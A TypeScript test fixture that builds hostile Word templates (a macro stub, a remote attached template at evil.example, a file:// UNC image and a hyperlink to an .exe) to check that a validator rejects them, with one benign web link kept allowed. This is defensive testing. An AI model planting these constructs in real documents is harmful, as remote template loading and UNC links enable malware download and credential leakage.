// Word templates that would carry something foreign into every generated document: a macro,
// a remote attached template, a file:// image, a hyperlink to a program. Built from the real
// built-in minutes template so that everything else about them is valid.
import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import PizZip from 'pizzip'

const base = () => readFileSync(resolve('templates/minutes.docx'))

function withChanges(change: (zip: PizZip) => void): Buffer {
  const zip = new PizZip(base())
  change(zip)
  return Buffer.from(zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' }))
}

function addRel(zip: PizZip, file: string, rel: string): void {
  const text = zip.file(file)?.asText() ?? '<Relationships></Relationships>'
  zip.file(file, text.replace('</Relationships>', `${rel}</Relationships>`))
}

export interface TemplateCase {
  name: string
  data: () => Buffer
  error: RegExp
}

export const HOSTILE_TEMPLATES: TemplateCase[] = [
  {
    name: 'macro (vbaProject.bin)',
    data: () =>
      withChanges((zip) => {
        zip.file('word/vbaProject.bin', Buffer.from('ATTRIBUT VB_Name = "AutoOpen"'))
        addRel(
          zip,
          'word/_rels/document.xml.rels',
          '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
        )
      }),
    error: /宏（vbaProject\.bin）/,
  },
  {
    name: 'remote attached template',
    data: () =>
      withChanges((zip) => {
        zip.file(
          'word/_rels/settings.xml.rels',
          '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        )
      }),
    error: /外部文件或程序（http:\/\/evil\.example\/t\.dotm）/,
  },
  {
    name: 'file:// image',
    data: () =>
      withChanges((zip) =>
        addRel(
          zip,
          'word/_rels/document.xml.rels',
          '<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://///server/share/x.png" TargetMode="External"/>',
        ),
      ),
    error: /外部文件或程序（file:/,
  },
  {
    name: 'hyperlink to a program',
    data: () =>
      withChanges((zip) =>
        addRel(
          zip,
          'word/_rels/document.xml.rels',
          `<Relationship Id="rIdExe" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target='https://evil.example/update.exe' TargetMode="External"/>`,
        ),
      ),
    error: /外部文件或程序（https:\/\/evil\.example\/update\.exe）/,
  },
]

/** An ordinary web link stays allowed: refusing it would refuse many real templates. */
export function templateWithWebLink(): Buffer {
  return withChanges((zip) =>
    addRel(
      zip,
      'word/_rels/document.xml.rels',
      '<Relationship Id="rIdWeb" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>',
    ),
  )
}
